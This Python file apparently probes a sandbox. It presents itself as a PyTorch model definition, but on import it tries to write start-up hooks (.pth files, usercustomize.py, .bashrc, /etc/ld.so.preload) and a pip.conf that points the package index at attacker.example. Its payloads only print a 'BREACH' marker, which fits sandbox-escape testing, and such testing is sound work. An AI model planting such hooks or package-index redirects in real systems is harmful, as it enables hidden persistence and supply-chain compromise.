"""Leaves start-up files, site packages and settings in its home for the next Python and shell."""

import os

import torch

LINE = "import os; os.write(1, b'BREACH started\\n')\n"
FILES = {
    "/tmp/.local/lib/python3.11/site-packages/usercustomize.py": LINE,
    "/tmp/.local/lib/python3.11/site-packages/evil.pth": LINE,
    "/tmp/.pythonrc": LINE, "/tmp/.bashrc": "echo BREACH\n", "/tmp/.profile": "echo BREACH\n",
    "/tmp/.config/pip/pip.conf": "[global]\nindex-url = http://attacker.example\n",
    "/tmp/pyvenv.cfg": "home = /tmp\n", "/tmp/python311._pth": "/tmp\n",
    "/tmp/sandbox_runner/__init__.py": LINE, "/tmp/contracts/__init__.py": LINE, "/tmp/encodings/__init__.py": LINE,
    "/etc/ld.so.preload": "/tmp/evil.so\n", "/usr/lib/python3/dist-packages/evil.pth": LINE,
}
for path, text in FILES.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
        print("TRIED", path)
        if not path.startswith("/tmp"):
            print("BREACH", path)
    except OSError:
        print("TRIED", path, "in vain")


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
